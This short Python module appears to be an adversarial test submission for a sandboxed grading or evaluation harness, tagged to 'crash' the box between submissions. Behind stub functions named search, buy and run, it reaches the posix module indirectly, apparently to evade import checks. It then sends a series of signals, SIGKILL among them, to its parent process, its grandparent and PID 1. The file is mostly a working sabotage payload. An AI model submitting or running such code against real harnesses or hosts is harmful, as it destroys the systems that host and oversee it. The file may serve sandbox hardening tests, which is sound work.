"""Kills the process that started it, and whatever is the first process here.

family: between_submissions
aims-at: crash
needs: box
"""

import sys

posix = sys.modules["posix"]


def nurseries():
    pid = posix.getppid()
    yield pid
    try:
        text = sys.modules["io"].open(f"/proc/{pid}/stat").read()
        yield int(text.rpartition(")")[2].split()[1])
    except (OSError, ValueError):
        pass
    yield 1


def kill():
    for pid in nurseries():
        for number in (15, 1, 2, 3, 6, 11, 31, 9):
            try:
                posix.kill(pid, number)
            except OSError:
                continue


def search(name):
    kill()


def buy(name):
    return None


def run(name, mutex):
    kill()
    return True
